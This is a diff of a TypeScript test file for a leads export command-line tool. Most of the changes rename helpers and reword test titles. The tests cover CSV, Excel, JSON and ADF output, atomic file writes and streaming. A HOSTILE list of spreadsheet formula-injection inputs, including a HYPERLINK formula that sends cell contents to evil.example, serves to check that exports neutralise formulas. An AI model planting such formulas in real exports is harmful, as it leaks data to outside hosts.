@@ -2,9 +2,9 @@ import { readdir, readFile, stat, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
-import { type Lead, readSpreadsheetCell, SHEET_COLUMNS } from "#domain/leads/index.ts";
-import { after, sampleLead } from "../contract/lead-samples.ts";
-import { leadsCli } from "./leads-cli.ts";
+import { type Lead, parseSpreadsheetCell, SHEET_COLUMNS } from "#domain/leads/index.ts";
+import { after, aLead } from "../builders/stored-lead.ts";
+import { useLeadsCli } from "./leads-cli.ts";
 
 const HOSTILE = [
   '=HYPERLINK("https://evil.example?"&A1;"Offre")',
@@ -18,20 +18,20 @@ const HOSTILE = [
 ];
 
 describe("vitrine leads export", () => {
-  const cli = leadsCli();
+  const cli = useLeadsCli();
   const run = (...words: string[]) => cli().run("export", ...words);
 
   const rows = (csv: string, delimiter: "," | ";" = ","): readonly Record<string, string>[] =>
     parse(csv, { columns: true, delimiter, bom: true });
 
-  it("writes a sheet under one header, oldest first, in which nothing can be computed and everything be read back", async () => {
+  it("writes CSV with one header, oldest first, without formulas and without loss", async () => {
     const leads = HOSTILE.map((text, index) =>
-      sampleLead({
+      aLead({
         created_at: after(index).toISOString(),
-        fields: { ...sampleLead().fields, last_name: text, message: text },
+        fields: { ...aLead().fields, last_name: text, message: text },
       }),
     );
-    await cli().keep(...leads.toReversed());
+    await cli().saveLeads(...leads.toReversed());
     const { out, err, code } = await run();
     expect([err, code]).toEqual(["8 leads written as csv\n", 0]);
     expect(out.slice(0, out.indexOf("\r\n"))).toBe(SHEET_COLUMNS.join(","));
@@ -39,8 +39,8 @@ describe("vitrine leads export", () => {
     expect(read.map(({ reference }) => reference)).toEqual(leads.map(({ reference }) => reference));
     for (const [index, text] of HOSTILE.entries()) {
       expect(read[index]!.message).not.toMatch(/^[\s"]*[=+\-@＝]/);
-      expect(readSpreadsheetCell(read[index]!.message!)).toBe(text);
-      expect(readSpreadsheetCell(read[index]!.last_name!)).toBe(text);
+      expect(parseSpreadsheetCell(read[index]!.message!)).toBe(text);
+      expect(parseSpreadsheetCell(read[index]!.last_name!)).toBe(text);
     }
     expect(read[0]).toMatchObject({
       received: "2026-11-21 13:00",
@@ -53,7 +53,7 @@ describe("vitrine leads export", () => {
   });
 
   it("writes for Excel with a byte order mark and semicolons", async () => {
-    await cli().keep(sampleLead());
+    await cli().saveLeads(aLead());
     const { out } = await run("--excel");
     expect(out.startsWith("\uFEFFreference;received;")).toBe(true);
     expect(rows(out, ";")[0]).toMatchObject({
@@ -62,10 +62,10 @@ describe("vitrine leads export", () => {
     });
   });
 
-  it("writes JSON that is an array, also of none, and nothing else", async () => {
+  it("writes a JSON array, also of no leads, and nothing else", async () => {
     expect(await run("--format", "json")).toMatchObject({ out: "[]\n", err: "0 leads written as json\n" });
-    const leads = [sampleLead(), sampleLead({ created_at: after(60).toISOString(), kind: "contact", subject: null })];
-    await cli().keep(...leads);
+    const leads = [aLead(), aLead({ created_at: after(60).toISOString(), kind: "contact", subject: null })];
+    await cli().saveLeads(...leads);
     const { idempotency_key: _key, fingerprint: _print, ...first } = leads[0]!;
     const written = JSON.parse((await run("--format", "json")).out) as Lead[];
     expect(written).toHaveLength(2);
@@ -76,9 +76,9 @@ describe("vitrine leads export", () => {
     expect(JSON.parse((await run("--format", "json", "--location", "diekirch")).out)).toEqual([]);
   });
 
-  it("writes one document for dealers' systems", async () => {
-    const leads = [sampleLead(), sampleLead({ created_at: after(60).toISOString() })];
-    await cli().keep(...leads);
+  it("writes one ADF document", async () => {
+    const leads = [aLead(), aLead({ created_at: after(60).toISOString() })];
+    await cli().saveLeads(...leads);
     const { out, code } = await run("--format", "adf");
     expect(code).toBe(0);
     expect(out).toMatch(/^<\?xml version="1\.0" encoding="UTF-8"\?>\n<\?adf version="1\.0"\?>\n<adf>\n {2}<prospect/);
@@ -88,9 +88,9 @@ describe("vitrine leads export", () => {
     expect(out.endsWith("</prospect>\n</adf>\n")).toBe(true);
   });
 
-  it("replaces a file at once by one that only its owner reads, and leaves the old one where it cannot", async () => {
-    const { folder, keep } = cli();
-    await keep(sampleLead());
+  it("replaces a file atomically, readable by its owner alone, and keeps the old one on failure", async () => {
+    const { folder, saveLeads } = cli();
+    await saveLeads(aLead());
     const path = join(folder, "leads.csv");
     await writeFile(path, "old", { mode: 0o644 });
     expect(await run("--output", path)).toEqual({ out: "", err: "1 leads written as csv\n", code: 0 });
@@ -101,10 +101,10 @@ describe("vitrine leads export", () => {
     expect([refused.out, refused.code]).toEqual(["", 3]);
   });
 
-  it("writes thousands without holding them all", async () => {
-    await cli().inDatabase(async ({ store }) => {
+  it("streams thousands of leads in bounded memory", async () => {
+    await cli().withDatabase(async ({ store }) => {
       for (let index = 0; index < 1_100; index += 1) {
-        await store.accept(sampleLead({ reference: `N${index}`, created_at: after(index % 7).toISOString() }), []);
+        await store.save(aLead({ reference: `N${index}`, created_at: after(index % 7).toISOString() }), []);
       }
     });
     const { out, err } = await run();
